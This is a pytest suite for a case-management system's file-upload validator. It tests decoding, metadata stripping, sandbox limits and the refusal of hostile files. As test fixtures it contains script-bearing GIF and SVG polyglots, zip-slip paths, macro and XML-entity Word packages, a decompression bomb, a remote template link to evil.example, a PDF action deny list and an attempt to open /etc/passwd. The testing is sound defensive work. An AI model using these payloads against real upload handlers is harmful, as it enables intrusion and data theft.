"""What is taken is proved by decoding; what is not is refused with its own sentence; the process that decodes can do nothing else."""

import io
import subprocess
import sys
import textwrap
from contextlib import suppress

import pikepdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from casemgr.core.errors import Invalid
from casemgr.files import proving, rules
from casemgr.files.workshop import limits, portable, recordings, words
from casemgr.files.workshop.made import NotTaken
from casemgr.security.spool import SealedSpool
from tests.files import making
from tests.files.making import GOOD
from tests.house.source import ROOT

MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
PLAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
TEMPLATE = b"""<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>"""


def proved(data: bytes) -> proving.Proved:
    return proving.prove(io.BytesIO(data))


def refusal(data: bytes) -> str:
    with pytest.raises(Invalid) as caught:
        proved(data)
    said = caught.value.errors["file"][0]
    return next(code for code, sentence in rules.REFUSED.items() if str(sentence) == said)


@pytest.mark.parametrize("kind", GOOD)
def test_good_files_of_every_kind_are_taken(kind: str) -> None:
    with proved(GOOD[kind]) as found:
        assert (found.kind, found.size) == (kind, len(GOOD[kind]))
        assert (found.copy is not None) == (kind in ("jpeg", "png", "webp", "pdf", "docx"))


BAD = {
    "empty": b"",
    "gif": b"GIF89a/*" + bytes(50) + b"*/=1;alert(1)",
    "markup": b'\xef\xbb\xbf <svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "program": b"MZ" + bytes(100),
    "packed": b"Rar!" + bytes(100),
    "heic": making.box(b"ftyp", b"heic" + bytes(8)),
    "old_office": b"\xd0\xcf\x11\xe0" + bytes(600),
    "picture": b"BM" + bytes(100),
    "unknown": b"just words",
    "two_kinds": making.pdf() + making.word(),
    "too_many_pixels": making.huge(),
    "password": making.pdf(password="secret"),
}
WORD_BAD = {
    "macros: type": ("macros", making.repacked(text=(PLAIN, MACRO))),
    "macros: part": ("macros", making.repacked({"word/vbaProject.bin": b"x"})),
    "zip slip": ("damaged", making.repacked({"../../evil.xml": b"x"})),
    "backslash": ("damaged", making.repacked({"..\\evil.xml": b"x"})),
    "symbolic link": ("damaged", making.repacked(link="word/link.xml")),
    "encrypted": ("password", making.repacked(flags=1)),
    "bomb": ("bomb", making.repacked({"word/x.xml": bytes(60_000_000)})),
    "fetches": ("reaches_out", making.repacked({"word/_rels/settings.xml.rels": TEMPLATE})),
    "entities": (
        "damaged",
        making.repacked(text=("<w:document ", '<!DOCTYPE x [<!ENTITY a "b">]><w:document ')),
    ),
    "no Word": ("not_word", making.repacked(text=(PLAIN, "application/x-other"))),
}


@pytest.mark.parametrize("code", BAD)
def test_each_bad_file_has_its_own_sentence(code: str) -> None:
    assert refusal(BAD[code]) == code


@pytest.mark.parametrize("case", WORD_BAD)
def test_bad_word_files(case: str) -> None:
    code, data = WORD_BAD[case]
    with pytest.raises(NotTaken) as caught:
        words.prove("docx", data)
    assert caught.value.code == code


@pytest.mark.parametrize("kind", [kind for kind in GOOD if kind != "ogg"])
def test_a_file_that_is_cut_off_is_refused(kind: str) -> None:
    assert refusal(GOOD[kind][: len(GOOD[kind]) * 3 // 4]) in ("damaged", "no_track")


def test_a_word_file_with_a_changed_bit_is_refused() -> None:
    data = bytearray(making.word())
    data[len(data) // 2] ^= 1
    with pytest.raises(NotTaken):
        words.prove("docx", bytes(data))


def test_more_than_25_megabytes_are_refused() -> None:
    assert refusal(b"\xff\xd8\xff" + bytes(rules.LARGEST)) == "too_large"


def test_the_copy_of_a_picture_holds_nothing_but_the_dots() -> None:
    data = making.located()
    assert b"Exif" in data
    with proved(data) as found:
        assert found.copy is not None and found.small is not None
        copy = found.copy.read()
        assert b"Exif" not in copy and "Máy".encode() not in copy
        with Image.open(io.BytesIO(copy)) as shown:
            assert shown.size == (100, 200), "turned as the camera held it"
        with Image.open(io.BytesIO(found.small.read())) as small:
            assert max(small.size) <= 240


def test_the_copy_of_a_pdf_does_nothing_and_holds_nothing_else() -> None:
    data = making.pdf(scripted=True, pages=2)
    made = portable.prove("pdf", data)
    assert made.facts == {"pages": 2}
    with pikepdf.open(io.BytesIO(made.copy)) as shown:
        assert len(shown.pages) == 2 and not shown.attachments
        assert str(shown.Root.Lang) == "vi", "the language is told to who has the page read out"
        spread = io.BytesIO()
        shown.save(spread, qdf=True, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    acts = (
        b"JavaScript",
        b"OpenAction",
        b"/AA",
        b"hidden",
        b"EmbeddedFile",
        b"/Annots",
        b"Launch",
        b"/URI",
        b"GoToR",
    )
    for word in (*acts, b"evil", b"Author", b"GPTS", b"Outlines", b"thread"):
        assert word not in spread.getvalue(), word


def test_the_copy_of_a_word_file_is_its_words() -> None:
    assert words.prove("docx", making.word("Xin chào\tcháu")).copy.decode() == "Xin chào\tcháu"


@pytest.mark.parametrize("changed", [making.ogg()[:-10], making.ogg()[:30] + b"X" + making.ogg()[31:]])
def test_an_ogg_page_is_checked_by_its_sum(changed: bytes) -> None:
    with pytest.raises(NotTaken):
        recordings.prove("ogg", changed)


def test_containers_that_are_something_else() -> None:
    for kind, data, code in (
        ("webm", making.webm(b"matroska"), "codec"),
        ("webm", making.webm(codec=b"V_STRANGE"), "codec"),
        ("mp4", making.mp4(b"text"), "no_track"),
        ("mp4", making.mp4() + b"behind the end", "damaged"),
        ("wav", making.wav() + b"behind the end", "damaged"),
        ("mp3", making.mp3() + b"<script>", "damaged"),
        ("mp3", making.mp3()[:500], "damaged"),
    ):
        with pytest.raises(NotTaken) as caught:
            recordings.prove(kind, data)
        assert caught.value.code == code, kind
    assert recordings.prove("webm", making.webm(live=True)).kind == "webm", "a browser that records"
    assert recordings.prove("mp4", making.mp4(b"soun")).kind == "m4a", "no pictures: a sound"


@settings(max_examples=60)
@given(st.sampled_from(["wav", "ogg", "mp4", "webm", "mp3"]), st.binary(max_size=300), st.integers(0, 400))
def test_no_recording_makes_the_walk_fail(kind: str, junk: bytes, place: int) -> None:
    """Whatever is sent, the answer is a kind or a refusal, and it comes to an end."""
    good = GOOD[kind]
    with suppress(NotTaken):
        assert recordings.prove(kind, good[:place] + junk + good[place:]).kind


def test_the_process_cannot_open_fork_or_grow() -> None:
    script = textwrap.dedent("""
        import errno, os, socket, sys
        from casemgr.files.workshop import limits
        limits.before_loading(); limits.before_looking()
        for attempt in (lambda: open('/etc/passwd'), socket.socket, os.pipe, lambda: open('/tmp/x', 'w')):
            try: attempt()
            except OSError as refused: assert refused.errno == errno.EMFILE
            else: sys.exit('opened')
        try: bytearray(2 * limits.MEMORY)
        except MemoryError: print('nothing')
    """)
    done = subprocess.run(
        [sys.executable, "-c", script], cwd=ROOT, capture_output=True, timeout=60, check=False
    )
    assert done.stdout.strip() == b"nothing", done.stderr


def test_a_process_that_hangs_is_ended(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(proving, "_LONGEST", 0.01)
    assert refusal(making.picture()) == "too_long"
    assert limits.SECONDS < 30


def test_when_all_are_busy_one_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(proving, "_PATIENCE", 0.01)
    with proving._workshop, proving._workshop:
        assert refusal(making.picture()) == "busy"


@settings(max_examples=25)
@given(st.lists(st.binary(max_size=90_000), max_size=6), st.integers(0, 400_000))
def test_a_spool_gives_back_what_was_written(parts: list[bytes], place: int) -> None:
    whole = b"".join(parts)
    with SealedSpool() as spool:
        for part in parts:
            spool.write(part)
        assert spool.tell() == spool.size == len(whole)
        spool.seek(place)
        assert spool.read() == whole[place:]
        spool.seek(0)
        assert b"".join(iter(lambda: spool.read(7000), b"")) == whole


def test_the_disk_never_sees_what_is_in_a_spool() -> None:
    mark = b"a bruise on the left arm " * 4000
    with SealedSpool() as spool:
        spool.write(mark)
        assert spool._file is not None
        spool._file.seek(0)
        assert b"bruise" not in spool._file.read()
